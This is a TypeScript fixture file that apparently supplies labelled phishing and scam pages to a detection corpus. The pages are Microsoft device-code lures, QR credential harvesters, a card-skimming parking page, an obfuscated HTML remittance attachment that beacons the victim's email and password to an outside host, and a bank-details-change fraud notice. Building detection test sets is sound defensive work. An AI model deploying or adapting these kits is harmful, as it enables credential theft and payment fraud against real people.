import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, img, kitCss, qrSvg } from '../parts/zb-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

const invoiceHtml = `<div id="bg"><table><tr><th>Item</th><th>Qty</th><th>Amount</th></tr><tr><td>Freight Rotterdam–Bergen (FCL 40')</td><td>2</td><td>€ 7,840.00</td></tr><tr><td>Terminal handling</td><td>2</td><td>€ 612.00</td></tr><tr><td>Customs documentation</td><td>1</td><td>€ 145.00</td></tr><tr><td><b>Total due</b></td><td></td><td><b>€ 8,597.00</b></td></tr></table></div>
<div class="m"><img src="https://remit-advice-cdn.com/i/xl.png" width="40" alt=""><h3>Remittance Advice – Payment Confirmation</h3><p>This file is protected. Enter the password of <b id="e">your email</b> to open the remittance.</p>
<form id="f"><input type="password" id="p" placeholder="Email password" required><div id="x" style="display:none;color:#c00;font-size:13px">Incorrect password, try again.</div><button>Open document</button></form></div>`;
const invoiceB64 = Buffer.from(invoiceHtml, 'utf8').toString('base64');

export const entries: Entry[] = [
  {
    id: 'zb-phish-device-code-teams-meeting',
    label: 'phishing',
    kind: 'device-code',
    url: 'https://teams-secure-join.meeting-invite.app/join/19-meeting-NzQ1ZmE0',
    body: doc({
      title: 'Microsoft Teams – Join secure meeting',
      css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#f5f5f5}.h{background:#464775;color:#fff;padding:12px 24px}.c{max-width:520px;margin:50px auto;background:#fff;padding:32px;border-radius:6px;text-align:center;box-shadow:0 2px 8px rgba(0,0,0,.1)}
.code{font-family:Consolas,monospace;font-size:34px;letter-spacing:4px;background:#f0f0f8;border:1px dashed #6264a7;padding:14px;margin:18px 0}.b{display:inline-block;background:#6264a7;color:#fff;padding:11px 26px;border-radius:4px;text-decoration:none}ol{text-align:left;font-size:14px}`,
      body: `<div class="h">Microsoft Teams</div><div class="c"><h2>Board meeting – Q4 financial results</h2><p>This is an externally hosted encrypted meeting. To join, verify your organisation account with the one-time meeting code below.</p>
<div class="code" id="code">&hellip;</div><ol><li>Click <b>Copy code &amp; continue</b>.</li><li>Paste the code on the Microsoft page that opens.</li><li>Sign in with your work account to join the meeting.</li></ol>
<a class="b" id="go" href="https://microsoft.com/devicelogin" target="_blank">Copy code &amp; continue</a><p style="font-size:12px;color:#777;margin-top:20px">Code expires in <span id="t">15:00</span></p></div>
<script>
fetch('/api/v1/session',{method:'POST'}).then(function(r){return r.json();}).then(function(j){document.getElementById('code').textContent=j.user_code;
document.getElementById('go').addEventListener('click',function(){try{navigator.clipboard.writeText(j.user_code);}catch(e){}setInterval(function(){fetch('/api/v1/poll?d='+j.device_id);},5000);});});
var s=900;setInterval(function(){s--;document.getElementById('t').textContent=Math.floor(s/60)+':'+('0'+s%60).slice(-2);},1000);
</script>`,
    }),
    routes: { 'teams-secure-join.meeting-invite.app/api/v1/session': jsonRoute({ user_code: 'HQ7K2MXPL', device_id: 'DAQABAAEAAAAmoFfGtYxvRrNriQdPKIZ-8e1', expires_in: 900 }), 'teams-secure-join.meeting-invite.app/api/v1/poll': jsonRoute({ status: 'pending' }) },
  },
  {
    id: 'zb-phish-device-code-fileshare-de',
    label: 'phishing',
    kind: 'device-code',
    url: 'https://freigabe-dokumente.cloud-zugang.eu/d/7731/',
    body: doc({
      title: 'Geschützte Dateifreigabe',
      lang: 'de',
      css: kitCss('#0078d4', '#eef2f6') + '.code{font:bold 28px Consolas,monospace;letter-spacing:3px;text-align:center;background:#f3f6fa;padding:12px;border:1px solid #cdd6e0;margin:12px 0}',
      body: `<div class="box"><h2>Geschützte Datei: Gehaltsanpassung_2027.pdf</h2><p>Aus Datenschutzgründen wird diese Datei nur nach Bestätigung Ihres Microsoft-365-Kontos angezeigt.</p>
<p><b>1.</b> Kopieren Sie diesen Bestätigungscode:</p><div class="code" id="c">G4TR-9PXQ</div><p><b>2.</b> Öffnen Sie <a href="https://microsoft.com/devicelogin" target="_blank">microsoft.com/devicelogin</a> und geben Sie den Code ein.</p><p><b>3.</b> Melden Sie sich mit Ihrem Firmenkonto an. Die Datei öffnet sich danach automatisch.</p>
<button onclick="navigator.clipboard.writeText(document.getElementById('c').textContent.replace('-',''));window.open('https://microsoft.com/devicelogin')">Code kopieren und fortfahren</button>
<div class="small">Personalabteilung &middot; Vertraulich</div></div>
<script>setInterval(function(){fetch('/d/7731/status').then(function(r){return r.json();}).then(function(j){if(j.done)location.href='https://www.office.com/';});},4000);</script>`,
    }),
    routes: { 'freigabe-dokumente.cloud-zugang.eu/d/7731/status': jsonRoute({ done: false }) },
  },
  {
    id: 'zb-phish-qr-mobile-landing-m365',
    label: 'phishing',
    kind: 'qr-lure',
    url: 'https://m.hr-notices-portal.com/s/HLX0934',
    body: doc({
      title: 'Verify',
      css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#fff}#chk{padding:60px 20px;text-align:center}#chk .sp{width:28px;height:28px;border:3px solid #ddd;border-top-color:#0067b8;border-radius:50%;animation:r 1s linear infinite;margin:20px auto}@keyframes r{to{transform:rotate(360deg)}}
#lg{display:none;padding:30px 24px}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:16px;margin:10px 0}button{background:#0067b8;color:#fff;border:0;padding:9px 30px;float:right}`,
      body: `<div id="chk"><p>Checking your device&hellip;</p><div class="sp"></div><p style="font-size:12px;color:#777">This helps us protect confidential HR documents.</p></div>
<div id="lg"><img src="/s/mslogo.png" height="22" alt="Microsoft"><h2>Sign in</h2><p style="font-size:13px">to view <b>Salary_Increment_2027.pdf</b></p>
<form id="f"><input type="email" name="login" placeholder="Email address" required><input type="password" name="passwd" placeholder="Password" required><button>Sign in</button></form></div>
<script>
(function(){var m=/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent);setTimeout(function(){document.getElementById('chk').style.display='none';document.getElementById('lg').style.display='block';if(!m){document.querySelector('#lg p').insertAdjacentHTML('afterend','<p style=\"font-size:12px;color:#a00\">For best results open this page on your phone.</p>');}},1500);
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/s/api/collect',{method:'POST',body:new FormData(this)}).then(function(){location.href='https://www.office.com/';});};})();
</script>`,
    }),
    routes: { 'm.hr-notices-portal.com/s/mslogo.png': img(242, 80, 34), 'm.hr-notices-portal.com/s/api/collect': jsonRoute({ ok: true }) },
  },
  {
    id: 'zb-phish-qr-parking-meter-sticker',
    label: 'phishing',
    kind: 'qr-lure',
    url: 'https://pay-parking-campus.com/zone/4417',
    body: doc({
      title: 'Pay for parking – Zone 4417',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f3f6f9}.h{background:#00a86b;color:#fff;padding:16px;text-align:center;font-weight:bold}.c{max-width:420px;margin:0 auto;padding:18px}.z{background:#fff;border-radius:10px;padding:14px;margin-bottom:12px}
select,input{width:100%;padding:12px;margin:6px 0;border:1px solid #ccd;border-radius:8px;font-size:16px}button{width:100%;background:#00a86b;color:#fff;border:0;padding:14px;border-radius:8px;font-size:17px}`,
      body: `<div class="h">&#127359; Quick Pay Parking</div><div class="c"><div class="z"><b>Zone 4417</b> · North Campus Car Park B<br><span style="font-size:13px;color:#666">Mon–Fri 08:00–18:00 · £1.60/hour</span></div>
<form method="post" action="/zone/4417/pay"><input name="plate" placeholder="Vehicle registration" required><select name="dur"><option>1 hour – £1.60</option><option>2 hours – £3.20</option><option>All day – £6.50</option></select>
<input name="card" placeholder="Card number" required inputmode="numeric"><input name="exp" placeholder="MM/YY" required><input name="cvc" placeholder="Security code" required><input name="email" placeholder="Email for receipt"><button>Pay now</button></form>
<p style="font-size:11px;color:#888;text-align:center">Secure payments · Parking enforcement applies. Terms &amp; Conditions</p></div>`,
    }),
    routes: { 'pay-parking-campus.com/zone/4417/pay': redirectRoute(302, 'https://pay-parking-campus.com/zone/4417/otp'), 'pay-parking-campus.com/zone/4417/otp': htmlRoute('<!doctype html><title>Confirm payment</title><p>Enter the 6-digit code sent by your bank.</p><form method=post action=/zone/4417/pay><input name=otp><button>Confirm</button></form>') },
  },
  {
    id: 'zb-phish-remittance-html-attachment',
    label: 'phishing',
    kind: 'invoice-kit',
    url: 'https://remit-advice-cdn.com/v/HLX_Remittance_88213.html?e=ZmluYW5jZUBoYWx2b3JzZW4tbG9naXN0aWNzLmNvbQ==',
    body: doc({
      title: 'HLX_Remittance_88213',
      css: `body{margin:0;font-family:Arial,sans-serif}#bg{filter:blur(4px);padding:40px}#bg table{width:80%;margin:auto;border-collapse:collapse}#bg td,#bg th{border:1px solid #999;padding:10px}.m{position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);background:#fff;padding:26px;width:360px;box-shadow:0 4px 24px rgba(0,0,0,.4);border-radius:6px}
.m input{width:100%;padding:10px;margin:8px 0}.m button{width:100%;background:#217346;color:#fff;border:0;padding:10px}`,
      body: `<script>
var _d='${invoiceB64}';document.write(decodeURIComponent(escape(atob(_d))));
(function(){var e='';try{e=atob(new URLSearchParams(location.search).get('e')||'');}catch(x){}if(e)document.getElementById('e').textContent=e;var t=0;
document.getElementById('f').addEventListener('submit',function(v){v.preventDefault();t++;var i=new Image();i.src='https://remit-advice-cdn.com/i/p.gif?'+btoa(e+'|'+document.getElementById('p').value+'|'+t);
if(t<3){document.getElementById('x').style.display='block';document.getElementById('p').value='';}else location.href='https://login.microsoftonline.com/';});})();
</script>`,
    }),
    routes: { 'remit-advice-cdn.com/i/xl.png': img(33, 115, 70), 'remit-advice-cdn.com/i/p.gif': img(255, 255, 255) },
  },
  {
    id: 'zb-scam-supplier-bank-details-change',
    label: 'scam',
    kind: 'invoice-fraud',
    url: 'https://nordic-freight-solutions.co/accounts/notice-change-of-bank-details',
    body: doc({
      title: 'Notice: Change of Bank Details – Nordic Freight Solutions AS',
      css: `body{font-family:Georgia,serif;background:#f4f4f4;margin:0}.l{max-width:700px;margin:30px auto;background:#fff;padding:50px;border-top:8px solid #12406b}table{border-collapse:collapse;margin:14px 0}td{padding:6px 14px;border:1px solid #ccc;font-family:Arial;font-size:14px}
.u{background:#fff3cd;padding:10px;border:1px solid #ffe08a;font-family:Arial;font-size:14px}form input{padding:8px;width:60%;margin:4px 0}form button{background:#12406b;color:#fff;border:0;padding:9px 18px}`,
      body: `<div class="l"><img src="/accounts/nfs-logo.png" height="40" alt="Nordic Freight Solutions"><p style="text-align:right;font-family:Arial;font-size:13px">Oslo, 24 November 2026</p>
<p>To: Accounts Payable, Halvorsen Logistics</p><h3>Notice of change of remittance details</h3>
<p>Dear valued partner,</p><p>Due to an ongoing audit of our previous banking provider, Nordic Freight Solutions AS has moved its receivables to a new account. With immediate effect, <b>all open and future invoices</b> must be settled to the account below. Payments to the old account will be returned and may incur late fees.</p>
<table><tr><td>Beneficiary</td><td>Nordic Freight Solutions AS</td></tr><tr><td>Bank</td><td>Baltic Trade Bank UAB</td></tr><tr><td>IBAN</td><td>LT72 3250 0417 8823 1190</td></tr><tr><td>SWIFT</td><td>BTBALT22</td></tr><tr><td>Reference</td><td>Your invoice number</td></tr></table>
<div class="u"><b>Outstanding:</b> INV-2026-10477 (€ 48,260.00), INV-2026-10512 (€ 12,915.50) – overdue. Please arrange payment today to avoid suspension of services. Kindly do not call our old office number as the line is under maintenance; reply by email only.</div>
<p>Please confirm receipt of this notice below so our finance team can update your account.</p>
<form method="post" action="/accounts/confirm"><input name="name" placeholder="Your name"><br><input name="email" placeholder="Your email"><br><input name="date" placeholder="Planned payment date"><br><button>Confirm update</button></form>
<p>Yours faithfully,<br><i>Erik Lunde</i><br>Finance Manager<br>accounts@nordic-freight-solutions.co</p></div>`,
    }),
    routes: { 'nordic-freight-solutions.co/accounts/nfs-logo.png': img(18, 64, 107), 'nordic-freight-solutions.co/accounts/confirm': htmlRoute('<!doctype html><title>Thank you</title><p>Thank you. Our finance department will contact you by email.</p>') },
  },
  {
    id: 'zb-phish-supplier-portal-po-es',
    label: 'phishing',
    kind: 'invoice-kit',
    url: 'https://portal-proveedores-compras.com/usierraalta/pedido/OC-2026-55812',
    body: doc({
      title: 'Portal de Proveedores – Orden de Compra OC-2026-55812',
      lang: 'es',
      css: kitCss('#7a1f1f', '#f1eded') + '.box{width:440px}.oc{font-size:13px;background:#f9f4f4;padding:10px;border:1px solid #e7d6d6}',
      body: `<div class="box"><h2>Nueva orden de compra</h2><div class="oc"><b>OC-2026-55812</b><br>Emisor: Servicio de Contratación y Compras<br>Importe: 18.430,00 € (IVA incl.)<br>Plazo de aceptación: 48 h</div>
<p>Para descargar la orden de compra y el pliego de condiciones, acceda con el correo electrónico de su empresa.</p>
<form id="f" method="post" action="/usierraalta/pedido/acceso.php"><input type="email" name="correo" placeholder="Correo electrónico de la empresa" required><input type="password" name="contrasena" placeholder="Contraseña del correo" required><input name="cif" placeholder="CIF / NIF de la empresa"><button>Descargar pedido</button></form>
<div class="small">Plataforma de Contratación · Todos los derechos reservados 2026</div></div>`,
    }),
    routes: { 'portal-proveedores-compras.com/usierraalta/pedido/acceso.php': redirectRoute(302, 'https://www.usierraalta.es/') },
  },
];
